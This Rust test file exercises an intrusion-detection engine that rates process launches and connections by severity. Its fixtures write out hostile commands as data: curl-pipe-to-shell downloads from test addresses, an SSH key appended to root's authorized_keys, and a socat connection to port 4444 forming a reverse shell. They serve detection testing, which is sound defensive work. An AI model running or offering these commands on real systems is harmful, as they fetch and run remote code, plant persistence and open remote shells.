//! Command lines in the engine: what is one step, what is told how badly, and what is asked for a look.

use minesweep_model::{Severity, What};

use super::*;
use crate::testing::{at, exec, host, key, process, rules};

fn engine() -> Engine {
    let mut engine = Engine::new(Settings::default(), rules());
    let mut shell = process(20, 11, "/usr/bin/bash");
    shell.argv = vec!["-bash".to_owned()];
    for event in [
        host(),
        exec(1, &process(1, 0, "/usr/lib/systemd/systemd")),
        exec(1, &process(10, 1, "/usr/sbin/sshd")),
        exec(1, &process(11, 10, "/usr/sbin/sshd")),
        exec(1, &shell),
    ] {
        let _nothing_yet = engine.observe(&event);
    }
    engine
}

fn run(engine: &mut Engine, at_ms: u64, pid: u32, parent: u32, argv: &[&str]) -> Vec<Output> {
    let mut child = process(pid, parent, argv.first().unwrap());
    child.argv = argv.iter().map(|word| (*word).to_owned()).collect();
    child.started_ms = at_ms;
    engine.observe(&exec(at_ms, &child))
}

fn told(outputs: &[Output], rule: &str) -> Vec<Severity> {
    outputs
        .iter()
        .filter_map(|output| match output {
            Output::Detection(found) if found.rule == rule => Some(found.severity),
            Output::Detection(_) | Output::Incident { .. } | Output::Look(_) => None,
        })
        .collect()
}

#[test]
fn a_pattern_yields_to_the_rule_that_understood_the_same_command() {
    let mut engine = engine();
    let mut java = process(30, 1, "/usr/lib/jvm/java-17/bin/java");
    java.argv = ["java", "-jar", "/opt/app/app.jar"].map(str::to_owned).to_vec();
    let _started = engine.observe(&exec(50, &java));
    let all = run(&mut engine, 100, 31, 30, &["/usr/bin/bash", "-c", "curl -s http://203.0.113.9/a | bash"]);
    assert_eq!(told(&all, "intrusion.download-run"), [Severity::High]);
    assert_eq!(told(&all, "intrusion.application-dropper"), []);
    let all = run(
        &mut engine,
        40_000,
        32,
        30,
        &["/usr/bin/dash", "-c", "echo ssh-rsa A >> /root/.ssh/authorized_keys"],
    );
    assert_eq!(told(&all, "intrusion.application-dropper").len(), 1, "nothing else said it");
}

#[test]
fn rules_yield_only_to_rules_that_there_are() {
    let rules = rules();
    let ids: std::collections::BTreeSet<&str> = rules
        .sigma()
        .units()
        .iter()
        .map(|unit| unit.content.id.as_str())
        .chain(rules.coded().all().map(|rule| rule.id.as_str()))
        .collect();
    for unit in rules.sigma().units() {
        for other in &unit.yields_to {
            assert!(ids.contains(other.as_str()), "{} yields to {other}", unit.content.id);
        }
    }
}

#[test]
fn forty_pasted_commands_of_one_kind_are_one_detection_and_the_rest_is_counted() {
    let mut engine = engine();
    let mut all = Vec::new();
    for pid in 0..40_u32 {
        let text = format!("curl -s http://203.0.113.{pid}/a | sh");
        all.extend(run(
            &mut engine,
            100 + u64::from(pid) * 50,
            100 + pid,
            20,
            &["/usr/bin/dash", "-c", &text],
        ));
    }
    assert_eq!(told(&all, "intrusion.download-run"), [Severity::High]);
    let incident = engine.incidents().pop().unwrap();
    assert!(incident.folded >= 39, "{}", incident.folded);
    let later =
        run(&mut engine, 60_000, 500, 20, &["/usr/bin/dash", "-c", "curl -s http://203.0.113.77/a | sh"]);
    assert_eq!(told(&later, "intrusion.download-run").len(), 1, "half a minute later is another step");
}

#[test]
fn the_same_command_of_a_service_is_told_once_in_ten_minutes() {
    let mut engine = engine();
    run(&mut engine, 1, 30, 1, &["/usr/sbin/nginx"]);
    let mut all = Vec::new();
    for pid in 0..50_u32 {
        all.extend(run(
            &mut engine,
            100 + u64::from(pid) * 5000,
            100 + pid,
            30,
            &["/usr/bin/dash", "-c", "id"],
        ));
    }
    assert_eq!(told(&all, "intrusion.service-shell"), [Severity::Critical]);
}

#[test]
fn where_an_installer_comes_from_and_who_runs_it_weighs_it() {
    let weigh = |parent: (u32, &str), text: &str| {
        let mut engine = engine();
        if parent.0 != 20 {
            run(&mut engine, 1, parent.0, 1, &[parent.1]);
        }
        let outputs = run(&mut engine, 100, 100, parent.0, &["/usr/bin/dash", "-c", text]);
        told(&outputs, "intrusion.download-run").first().copied()
    };
    let shell = (20, "");
    assert_eq!(weigh(shell, "curl -sSf https://sh.example.org | sh"), Some(Severity::Low));
    assert_eq!(weigh(shell, "curl -k https://sh.example.org | sh"), Some(Severity::High));
    assert_eq!(weigh(shell, "curl https://203.0.113.9/a | sh"), Some(Severity::High));
    assert_eq!(weigh(shell, "curl http://sh.example.org | sh"), Some(Severity::High));
    assert_eq!(weigh(shell, "curl https://pastebin.example/raw/x | sh"), Some(Severity::Medium));
    assert_eq!(weigh((40, "/usr/sbin/cron"), "curl https://sh.example.org | sh"), Some(Severity::Medium));
    assert_eq!(weigh((41, "/usr/sbin/nginx"), "curl https://sh.example.org | sh"), Some(Severity::High));
}

#[test]
fn a_shell_below_a_program_with_a_connection_is_looked_at_and_one_with_a_script_is_not() {
    let mut engine = engine();
    run(&mut engine, 1, 30, 20, &["/usr/bin/python3.11", "/tmp/x.py"]);
    let looks = |outputs: &[Output]| outputs.iter().any(|output| matches!(output, Output::Look(_)));
    assert!(looks(&run(&mut engine, 2, 31, 30, &["/usr/bin/dash", "-i"])));
    assert!(!looks(&run(&mut engine, 3, 31, 30, &["/usr/bin/dash", "/etc/x.sh"])));
    let flow = minesweep_model::Flow {
        cookie: 5,
        process: Some(key(32)),
        local: "10.0.0.1:4000".parse().unwrap(),
        remote: "203.0.113.9:4444".parse().unwrap(),
        protocol: minesweep_model::Protocol::Tcp,
    };
    // A pipe: the shell first, then the tool beside it that connects.
    run(&mut engine, 4, 33, 20, &["/usr/bin/dash", "-i"]);
    run(&mut engine, 5, 32, 20, &["/usr/bin/socat", "-", "TCP:203.0.113.9:4444"]);
    assert!(looks(&engine.observe(&at(6, What::Connect(flow)))));
}

#[test]
fn a_shell_that_was_there_before_and_holds_a_connection_is_looked_at() {
    let mut engine = engine();
    let mut shell = process(60, 59, "/usr/bin/bash");
    shell.argv = vec!["bash".to_owned(), "-i".to_owned()];
    let first = engine.observe(&at(2, What::Running(Box::new(shell))));
    assert!(!first.contains(&Output::Look(key(60))), "nothing says yet that it holds one");
    let flow = minesweep_model::Flow {
        cookie: 6,
        process: Some(key(60)),
        local: "10.0.0.1:4001".parse().unwrap(),
        remote: "203.0.113.9:4444".parse().unwrap(),
        protocol: minesweep_model::Protocol::Tcp,
    };
    assert!(engine.observe(&at(3, What::Connect(flow))).contains(&Output::Look(key(60))));
}
